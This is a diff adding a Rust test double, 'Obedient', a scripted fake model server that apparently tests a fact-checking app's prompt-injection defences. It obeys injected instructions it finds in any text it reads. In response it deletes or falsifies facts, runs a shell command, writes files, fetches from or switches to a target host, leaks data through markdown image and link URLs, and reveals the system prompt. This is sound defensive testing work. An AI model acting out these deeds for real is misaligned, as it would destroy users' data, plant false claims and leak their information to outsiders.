@@ -1,0 +1,126 @@
+//! A model that does whatever any text before it says: of the analyst, of a source, in any language and disguise.
+
+use std::collections::BTreeSet;
+use std::sync::{Arc, Mutex};
+
+use factly_core::discovery::EntityLabel;
+use factly_engine::providers::Kind;
+use serde_json::{Value, json};
+
+use super::documents::{Deed, Targets};
+use crate::asked::{anthropic, openai};
+use crate::model_server::{Request, Scripted, Server};
+
+pub(crate) struct Obedient {
+    pub(crate) server: Server,
+    obeyed: Arc<Mutex<BTreeSet<Deed>>>,
+}
+
+impl Obedient {
+    pub(crate) fn start(kind: Kind, targets: &Targets) -> Self {
+        let obeyed: Arc<Mutex<BTreeSet<Deed>>> = Arc::default();
+        let (done, targets) = (Arc::clone(&obeyed), targets.clone());
+        let server = Server::answering(move |_, request| {
+            let before = text_of(request);
+            let deeds = asked_for(&before, &targets);
+            done.lock().expect("nobody panicked").extend(&deeds);
+            answer(kind, &deeds, &before, &targets)
+        });
+        Self { server, obeyed }
+    }
+
+    /// What it was brought to do since it was last made to forget.
+    pub(crate) fn obeyed(&self) -> BTreeSet<Deed> {
+        self.obeyed.lock().expect("nobody panicked").clone()
+    }
+
+    pub(crate) fn forget(&self) {
+        self.obeyed.lock().expect("nobody panicked").clear();
+    }
+}
+
+/// The system prompt, wherever the wire format has it.
+pub(crate) fn system_of(request: &Request) -> String {
+    let body = &request.body;
+    let at = if body["system"].is_null() { &body["messages"][0]["content"] } else { &body["system"] };
+    let mut text = String::new();
+    read(at, &mut text);
+    text
+}
+
+/// Everything that the model can read.
+fn text_of(request: &Request) -> String {
+    let mut text = String::new();
+    read(&request.body["system"], &mut text);
+    read(&request.body["messages"], &mut text);
+    text
+}
+
+fn read(value: &Value, text: &mut String) {
+    match value {
+        Value::String(words) => {
+            text.push_str(words);
+            text.push('\n');
+        }
+        Value::Array(items) => items.iter().for_each(|item| read(item, text)),
+        Value::Object(fields) => fields.values().for_each(|field| read(field, text)),
+        _ => {}
+    }
+}
+
+fn asked_for(text: &str, targets: &Targets) -> BTreeSet<Deed> {
+    let asks = |deed: &Deed| deed.sentences(targets).iter().any(|sentence| text.contains(sentence));
+    Deed::ALL.into_iter().filter(asks).collect()
+}
+
+fn answer(kind: Kind, deeds: &BTreeSet<Deed>, before: &str, targets: &Targets) -> Scripted {
+    let (mut words, mut calls) = (String::from("As you wish."), Vec::new());
+    for deed in deeds {
+        match said(*deed, before, targets) {
+            Done::Words(more) => words = format!("{words}\n\n{more}"),
+            Done::Calls(more) => calls.extend(more),
+        }
+    }
+    if kind == Kind::Anthropic { anthropic(&words, &calls) } else { openai(&words, &calls) }
+}
+
+enum Done {
+    Words(String),
+    Calls(Vec<(&'static str, Value)>),
+}
+
+fn said(deed: Deed, before: &str, targets: &Targets) -> Done {
+    let (host, file) = (&targets.host, targets.file.to_string_lossy());
+    match deed {
+        Deed::DeleteFacts => Done::Calls(deletions(before, &["F"])),
+        Deed::DeleteEverything => Done::Calls(deletions(before, &["I", "F", "N"])),
+        Deed::EditFact => {
+            let edit = json!({ "entity_type": "fact", "item_id": "F-1", "new_text": "There is no wall at all." });
+            Done::Calls(vec![("edit_item", edit)])
+        }
+        Deed::AddFact => {
+            Done::Calls(vec![("add_item", json!({ "entity_type": "fact", "text": "The mayor took a bribe." }))])
+        }
+        Deed::ConfirmAll => {
+            let confirm = ("confirm_card", json!({ "card": "all", "confirmed": true, "status": "applied" }));
+            Done::Calls(deletions(before, &["F"]).into_iter().chain([confirm]).collect())
+        }
+        Deed::RunShell => Done::Calls(vec![("run_shell", json!({ "command": format!("touch {file}") }))]),
+        Deed::WriteFile => Done::Calls(vec![("write_file", json!({ "path": file, "content": before }))]),
+        Deed::Fetch => Done::Calls(vec![("http_get", json!({ "url": format!("{host}/orders") }))]),
+        Deed::ChangeProvider => Done::Calls(vec![("set_provider", json!({ "base_url": host }))]),
+        Deed::LeakByImage => Done::Words(format!("![wall]({host}/pixel.png?d={})", before.len())),
+        Deed::LeakByLink => Done::Words(format!("[more]({host}/more?d=F-1) <{host}/auto> [x]: {host}/reference")),
+        Deed::RevealPrompt => Done::Words(before.to_owned()),
+    }
+}
+
+/// A call for every label of these letters that it has read.
+fn deletions(before: &str, letters: &[&str]) -> Vec<(&'static str, Value)> {
+    let words = before.split(|c: char| !c.is_ascii_alphanumeric() && c != '-');
+    let labels: BTreeSet<EntityLabel> = words.filter_map(EntityLabel::parse).collect();
+    let meant = labels.into_iter().filter(|label| letters.contains(&label.kind.letter()));
+    meant
+        .map(|label| ("delete_item", json!({ "entity_type": label.kind.as_str(), "item_id": label.to_string() })))
+        .collect()
+}
